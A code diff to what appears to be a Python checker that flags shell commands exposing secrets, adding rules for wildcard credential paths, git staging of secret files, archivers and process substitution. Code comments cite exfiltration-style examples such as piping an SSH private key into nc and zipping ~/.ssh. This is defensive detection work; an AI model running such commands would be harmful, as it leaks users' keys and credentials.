@@ -206,6 +206,8 @@ def store(path: str, home: str, *, keys: bool = True) -> str | None:
     """The secret an absolute path holds (its store's words), or None. `keys`: key material
     (`*.pem`, `*.key`) counts too."""
     norm = path.replace("\\", "/")
+    while norm.endswith(("/*", "/**", "/.")):  # `~/.aws/*`: all the directory holds
+        norm = norm.rsplit("/", 1)[0]
     home = home.replace("\\", "/").rstrip("/")
     if norm.lower().startswith(home.lower() + "/"):
         rel = norm[len(home) + 1 :]
@@ -315,8 +317,10 @@ def touches(judge: Judge, command: Command) -> str | None:
         from .commands import from_file
 
         source = from_file(command.fed)
-        if source is not None:  # `nc host 80 < ~/.ssh/id_rsa`
+        if source is not None:  # `nc host 80 < ~/.ssh/id_rsa`, `< <(cat ~/.netrc)`
             fed = secret_word(judge, source.path, command.cwd)
+            if fed is None and source.path.dynamic:
+                fed = judge.secret_substitution
     if name in SENDERS:
         sent = _sent(judge, command, name, fed)
         if sent is not None:
@@ -342,11 +346,20 @@ def touches(judge: Judge, command: Command) -> str | None:
                 DESTRUCTIVE, f"{command.name} -m http.server: serves {served} to the network"
             )
         return None
+    if name == "git" and command.args[:1] and command.args[0].text in ("add", "commit"):
+        staged = _staged(judge, command)
+        if staged is not None:
+            from .policy import UNKNOWN
+
+            judge.flag(UNKNOWN, f"git {command.args[0].text}: commits {staged}; a push sends it")
+        return None
     if name in SENDERS or name in _KEY_USERS:
         return fed  # their own key, used, not printed
     if name in _COPIES:
         _copied(judge, command)
         return None
+    if name in _ARCHIVERS:
+        _archived(judge, command)
     read = None
     for word in command.args:
         if word.text.startswith("-") and "=" not in word.text:
@@ -366,6 +379,36 @@ def touches(judge: Judge, command: Command) -> str | None:
 # Commands that use a key without printing it.
 _KEY_USERS = frozenset({"ssh-add", "ssh-copy-id", "chmod", "chown", "ls", "stat", "test", "[",
                         "[[", "git", "export", "source", ".", "touch", "mkdir", "cd"})  # fmt: skip
+
+
+# Archivers and encoders writing what they read into a file (`zip -r k.zip ~/.ssh`).
+_ARCHIVERS = frozenset({"tar", "zip", "7z", "7za", "gzip", "bzip2", "xz", "zstd", "gpg", "age",
+                        "openssl", "rar", "bsdtar", "gtar", "compress-archive"})  # fmt: skip
+
+
+def _staged(judge: Judge, command: Command) -> str | None:
+    for word in command.args[1:]:
+        if not word.text.startswith("-"):
+            found = secret_word(judge, word, command.cwd, keys=False)
+            if found is not None:
+                return found
+    return None
+
+
+def _archived(judge: Judge, command: Command) -> None:
+    """An archive of a secret holds it: every other file the command names may be that
+    archive (a later send of it sends the secret)."""
+    found = None
+    for word in command.args:
+        found = found or secret_word(judge, word, command.cwd)
+    if found is None:
+        return
+    for word in command.args:
+        text = word.text.split("=", 1)[-1]
+        if word.dynamic or not text or text.startswith("-") or text == "-":
+            continue
+        if secret_word(judge, word, command.cwd) is None:
+            judge.secret_files[judge.places.resolve(text, command.cwd)] = found
 
 
 def _copied(judge: Judge, command: Command) -> None:
